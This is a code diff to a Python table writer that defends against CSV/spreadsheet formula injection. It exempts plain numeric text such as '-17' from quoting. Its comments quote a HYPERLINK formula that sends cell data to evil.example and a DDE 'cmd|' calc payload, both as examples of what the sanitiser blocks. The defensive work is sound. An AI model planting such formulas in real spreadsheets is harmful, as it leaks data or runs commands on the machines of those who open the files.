@@ -4,7 +4,11 @@ Formula injection (OWASP "CSV Injection"): a text cell starting with ``=``, ``+`
 a carriage return is executed by Excel/LibreOffice when the file is opened, so a patient_id such as
 ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` in a user's file would become a live link in the
 report. :func:`spreadsheet_safe` prefixes such text with a single quote, as OWASP recommends, in every
-.csv and .xlsx written here; numbers stay numbers (``-1.5`` in a numeric column is not text). The .xlsx
+.csv and .xlsx written here; numbers stay numbers (``-1.5`` in a numeric column is not text), and so does text
+that is a plain number (:data:`PLAIN_NUMBER`: ``-17``, ``-0.5``, ``+3``), which a spreadsheet reads as that
+number: a formula needs a function, a reference, an operator between operands or a DDE command (``cmd|...``),
+and a sign followed by digits and one decimal point holds none of them. Quoting it gained nothing and broke
+joins: ``predict -o`` wrote the patient_id ``-17`` as ``'-17``. The .xlsx
 writer also sets every text cell's type to string, so it never writes a formula. Parquet and JSON Lines
 keep text as it is: no spreadsheet executes them.
 
@@ -15,6 +19,7 @@ replaces ``path`` only when the whole table was written, so a failed run never l
 from __future__ import annotations
 
 import os
+import re
 from pathlib import Path
 from types import TracebackType
 from typing import Any
@@ -27,16 +32,22 @@ import pyarrow.parquet as pq
 WRITE_FORMATS: tuple[str, ...] = (".csv", ".parquet", ".jsonl", ".xlsx")
 FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
 """First characters that make a spreadsheet evaluate a cell (OWASP CSV Injection)."""
+PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
+"""Text that is only a number (a sign, ASCII digits, at most one decimal point): evaluated, it is that number,
+so it is written as it is (``-17`` stays a joinable patient_id). Anything more (``-1+2``, ``-2+cmd|'/C calc'!A0``,
+``-1e3``, ``-x``) is prefixed."""
 
 
 def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
-    """``frame`` with every text cell that a spreadsheet would execute prefixed by ``'``; numbers untouched."""
+    """``frame`` with every text cell that a spreadsheet would execute prefixed by ``'``; numbers, and text that is
+    a plain number (:data:`PLAIN_NUMBER`), untouched."""
     columns: dict[Any, pd.Series] = {}
     for name, column in frame.items():
         if isinstance(column.dtype, pd.CategoricalDtype):
             column = column.astype(object).where(column.notna(), None)
         if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
-            risky = np.fromiter((isinstance(v, str) and v.startswith(FORMULA_PREFIXES) for v in column),
+            risky = np.fromiter((isinstance(v, str) and v.startswith(FORMULA_PREFIXES)
+                                 and PLAIN_NUMBER.fullmatch(v) is None for v in column),
                                 dtype=bool, count=len(column))
             if risky.any():
                 column = column.astype(object).copy()
